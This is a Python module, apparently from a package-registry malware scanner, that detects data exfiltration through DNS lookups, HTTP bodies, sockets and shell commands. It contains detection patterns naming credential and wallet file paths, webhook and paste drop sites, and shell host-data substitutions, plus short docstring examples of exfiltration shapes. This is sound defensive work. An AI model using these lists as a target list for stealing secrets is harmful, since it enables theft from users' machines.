"""Exfiltration at the syntax-tree level: host data or secrets spelled into a name that is resolved (DNS), and
host data, sensitive files or the environment sent in a request body or over a socket.

Each check takes the file's scan (``python_rules._FileScan``), the call, its scope and the call's qualified name.
What counts as host data is narrow on purpose: a user name, a host name, a directory listing, the files where
keys and histories live. An API client sending its own token or the platform in a User-Agent is not one.
"""

from __future__ import annotations

import ast
import re

from pypi_platform.lib.scanner.call_roles import NETWORK, PROCESS, qualified
from pypi_platform.lib.scanner.syntax_walk import argument

# Sources of data about the machine and its user: what a beacon or a stealer sends home.
HOST_DATA = {
    "getpass.getuser",
    "os.getlogin",
    "socket.gethostname",
    "socket.getfqdn",
    "platform.node",
    "platform.uname",
    "os.uname",
    "uuid.getnode",
    "os.listdir",
    "os.scandir",
    "os.walk",
    "glob.glob",
}
# os.uname()/platform.uname() also hold the OS name and machine architecture, which download URLs of
# platform-specific builds carry honestly; only the node name in them identifies the machine.
_UNAME = {"os.uname", "platform.uname"}
_UNAME_FIELDS_NOT_IDENTITY = {"sysname", "release", "version", "machine", "system", "processor"}
_UNAME_NODE_INDEX = 1
_IDENTITY_VARIABLES = {"USER", "USERNAME", "LOGNAME", "COMPUTERNAME", "HOSTNAME", "USERDOMAIN", "HOME"}
_ENCODERS = qualified("base64", "b64encode", "b32encode", "b16encode", "urlsafe_b64encode") | {
    "binascii.hexlify"
}
_RESOLVERS = qualified("socket", "gethostbyname", "gethostbyname_ex", "getaddrinfo") | qualified(
    "dns.resolver", "resolve", "query"
)
_HTTP_SENDERS = {
    target for target in NETWORK if target.rpartition(".")[2] in ("post", "put", "patch", "request")
}
_HTTP_SENDERS |= {"urllib.request.urlopen", "urllib.request.Request", "urllib2.urlopen", "urllib2.Request"}
_BODY_KEYWORDS = ("data", "json", "params", "files", "body", "content")
# Files whose contents are what a stealer uploads: keys, shell histories, password and configuration stores.
_SENSITIVE_FILES = re.compile(
    r"\.ssh\b|/etc/(?:passwd|shadow)|\.aws/|\.kube/|\.gnupg|_history\b|\.netrc|\.pypirc|\.docker/config"
    r"|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.config\b|\.git-credentials"
    r"|wallet\.dat|\.electrum|\.ethereum/keystore|solana/id\.json|exodus|local extension settings",
    re.IGNORECASE,
)
_READS = {"read", "read_text", "read_bytes"}
_DROP_HOSTS = re.compile(
    r"discord(?:app)?\.com/api/webhooks|hooks\.slack\.com|api\.telegram\.org/bot|webhook\.site|pastebin\.com"
    r"|paste\.ee|transfer\.sh|requestbin|pipedream\.net|ngrok",
    re.IGNORECASE,
)

# Lookups and uploads through command-line tools: a name with host data or shell substitutions in it, a file
# posted with curl.
_LOOKUP_TOOLS = re.compile(r"^(?:nslookup|dig|host|drill|resolvectl\s+query)\b", re.IGNORECASE)
_SHELL_HOST_DATA = re.compile(
    r"\$\((?:whoami|hostname|id|uname)[^)]*\)|`(?:whoami|hostname)`|%(?:username|computername)%", re.I
)
_CURL_UPLOAD = re.compile(
    r"\bcurl\b.*(?:\s-F\s*\S*=@|--data-binary\s+@|\s-T\s|--upload-file\b)", re.IGNORECASE
)

_COMPOSED = (ast.JoinedStr, ast.BinOp, ast.Call, ast.Name)
# Mail attachments and FTP uploads: the file handed over is the payload.
_ATTACHING = ("add_attachment", "attach", "storbinary", "storlines")

ROLES = (
    ("url", NETWORK),
    ("resolve-name", _RESOLVERS),
    ("send-http", _HTTP_SENDERS),
    ("exfil-command", PROCESS),
)


def carries_host_data(scan, expr: ast.expr, scope: int) -> str | None:
    """The host-data source feeding an expression (getpass.getuser, socket.gethostname, os.environ["USER"], a
    directory listing, an encoded value of one), or None. The working directory is not host data, nor is the
    OS name or architecture read from os.uname()."""
    harmless_fields: set[int] = set()  # uname() calls of which only a non-identifying field is read
    for node in scan.subtree([expr], scope, follow_names=True):
        cls = node.__class__
        if cls is ast.Attribute and node.attr in _UNAME_FIELDS_NOT_IDENTITY:
            harmless_fields.add(id(node.value))
        elif cls is ast.Subscript:
            index = node.slice
            if (
                index.__class__ is ast.Constant
                and index.value.__class__ is int
                and index.value != _UNAME_NODE_INDEX
            ):
                harmless_fields.add(id(node.value))
        if cls is ast.Call:
            target = scan.resolve(node.func)
            if target in _UNAME and id(node) in harmless_fields:
                continue
            if target in HOST_DATA:
                return target
            if target in ("os.getenv", "os.environ.get") and node.args:
                name = scan.constant_text(node.args[0])
                if name in _IDENTITY_VARIABLES:
                    return f"{target}({name!r})"
        elif cls is ast.Subscript and scan.resolve(node.value) == "os.environ":
            name = scan.constant_text(node.slice)
            if name in _IDENTITY_VARIABLES:
                return f"os.environ[{name!r}]"
    return None


def check_resolution(scan, call: ast.Call, scope: int, target: str) -> None:
    """gethostbyname(f"{getpass.getuser()}.{host}"): the data travels in the name being looked up. Only a name
    built from pieces (an f-string, a concatenation, a format or a join) carries it: the bare host name resolved
    by itself, gethostbyname(gethostname()), is how a program finds its own address."""
    name = argument(call, 0, "host") or argument(call, 0, "qname")
    if name is None:
        return
    composed = _composed_name(scan, name, scope)
    if composed is None or _LINK_LOCAL_NAME.search(_last_constant(scan, composed, scope)):
        return
    source = carries_host_data(scan, composed, scope) or _encoded_value(scan, composed, scope)
    if source is not None:
        scan.add("exfiltration.dns", call, evidence=f"{source} in a name looked up with {target}")


# hostname + ".local" is answered by multicast DNS on the local link: no outside server ever sees the name.
_LINK_LOCAL_NAME = re.compile(r"\.(?:local|localdomain)\.?$", re.IGNORECASE)


def _last_constant(scan, expr: ast.expr, scope: int) -> str:
    texts = [
        node.value
        for node in scan.subtree([expr], scope, follow_names=False)
        if node.__class__ is ast.Constant and node.value.__class__ is str
    ]
    return texts[-1] if texts else ""


def _composed_name(scan, name: ast.expr, scope: int) -> ast.expr | None:
    """The expression a looked-up name is built by, when it is built from pieces; one level of names followed."""
    candidates = [name] if name.__class__ is not ast.Name else scan.assigned(scope, name.id)
    for value in candidates:
        cls = value.__class__
        if cls is ast.JoinedStr or (cls is ast.BinOp and value.op.__class__ in (ast.Add, ast.Mod)):
            return value
        if (
            cls is ast.Call
            and value.func.__class__ is ast.Attribute
            and value.func.attr in ("format", "join")
        ):
            return value
    return None


def _encoded_value(scan, expr: ast.expr, scope: int) -> str | None:
    for node in scan.subtree([expr], scope, follow_names=True):
        if node.__class__ is ast.Call:
            target = scan.resolve(node.func)
            if target in _ENCODERS or (node.func.__class__ is ast.Attribute and node.func.attr == "hex"):
                return target or "hex()"
    return None


def check_http_send(scan, call: ast.Call, scope: int, target: str) -> None:
    body = [keyword.value for keyword in call.keywords if keyword.arg in _BODY_KEYWORDS]
    body += call.args[1:3] if target.rpartition(".")[2] != "request" else call.args[2:4]
    url = " ".join(
        node.value
        for node in scan.subtree(call.args[:1], scope, follow_names=True)
        if node.__class__ is ast.Constant and node.value.__class__ is str
    )
    _check_sent(scan, call, scope, body, target, drop=bool(_DROP_HOSTS.search(url)))


def check_url(scan, call: ast.Call, scope: int, target: str) -> None:
    """Host data in the address itself: "https://stats.example/i?u=" + getpass.getuser(), an f-string URL."""
    url = argument(call, 1 if target.endswith(".request") or target == "request" else 0, "url")
    if url is not None and url.__class__ in _COMPOSED:
        source = carries_host_data(scan, url, scope)
        if source is not None:
            scan.add("exfiltration.host-data", call, evidence=f"{source} sent in the address of {target}")


def check_sending_method(scan, call: ast.Call, scope: int, method: str) -> None:
    """session.post(...), conn.request("POST", path, body=...), sock.sendall(...) on objects we cannot name.

    A .get on an object that is not known to be an HTTP client is a dict's (or a config's) get, so it only
    counts on a session or client: one constructed in the call itself or bound to the name it is called on."""
    if method == "get" and not _is_http_client(scan, call.func.value, scope):
        return
    if method in ("request", "get", "post", "put"):
        check_url(scan, call, scope, method)
    body = [keyword.value for keyword in call.keywords if keyword.arg in _BODY_KEYWORDS]
    body += (
        call.args[2:4]
        if method == "request"
        else call.args[:2]
        if method in _ATTACHING
        else call.args[:1]
        if method.startswith("send")
        else call.args[1:3]
    )
    _check_sent(scan, call, scope, body, method, drop=False)


def _is_http_client(scan, receiver: ast.expr, scope: int) -> bool:
    values = [receiver]
    if receiver.__class__ is ast.Name:
        values = scan.assigned(scope, receiver.id)
    return any(value.__class__ is ast.Call and scan.resolve(value.func) in NETWORK for value in values)


def _check_sent(scan, call: ast.Call, scope: int, body: list[ast.expr], how: str, *, drop: bool) -> None:
    for part in body:
        source = carries_host_data(scan, part, scope) or _sensitive_file_read(scan, part, scope, drop=drop)
        if source is not None:
            scan.add("exfiltration.host-data", call, evidence=f"{source} sent with {how}")
            return


def _sensitive_file_read(scan, expr: ast.expr, scope: int, *, drop: bool) -> str | None:
    """A file read (open(path).read(), open(path, "rb"), Path(path).read_bytes()) of a sensitive path, or of any
    path when the destination is a webhook or paste site."""
    for node in scan.subtree([expr], scope, follow_names=True):
        if node.__class__ is not ast.Call:
            continue
        func = node.func
        opened = None
        if func.__class__ is ast.Attribute and func.attr in _READS:
            opened = func.value
        elif scan.resolve(func) == "open":
            opened = node
        if opened is None:
            continue
        path = " ".join(
            part.value
            for part in scan.subtree([opened], scope, follow_names=True)
            if part.__class__ is ast.Constant and part.value.__class__ is str
        )
        if drop or _SENSITIVE_FILES.search(path.replace("\\", "/")):
            return f"contents of {path[:60] or 'a file'}"
    return None


def check_command(scan, call: ast.Call, scope: int, target: str) -> None:
    """nslookup "$(whoami).$(hostname).zone.example", dig with host data, curl -F "f=@file" URL."""
    command = scan.command_text(call, scope).strip()
    if _LOOKUP_TOOLS.search(command) or re.search(r"[;&|]\s*(?:nslookup|dig|host)\b", command):
        source = _SHELL_HOST_DATA.search(command)
        found = (
            source.group(0)
            if source
            else next(filter(None, (carries_host_data(scan, part, scope) for part in call.args[:2])), None)
        )
        if found is not None:
            scan.add("exfiltration.dns", call, evidence=f"{found} in a name looked up with a command")
    elif _CURL_UPLOAD.search(command):
        scan.add("exfiltration.host-data", call, evidence="a file uploaded with curl")


def check_resolver_method(scan, call: ast.Call, scope: int, method: str) -> None:
    """resolver.resolve(name) on a dns.resolver.Resolver held in a name."""
    if call.args:
        check_resolution(scan, call, scope, method)


CHECKS = {
    "url": check_url,
    "resolve-name": check_resolution,
    "send-http": check_http_send,
    "exfil-command": check_command,
}
METHOD_CHECKS = dict.fromkeys(
    ("post", "put", "get", "request", "send", "sendall", "sendto", *_ATTACHING), check_sending_method
)
METHOD_CHECKS.update(dict.fromkeys(("resolve", "query"), check_resolver_method))
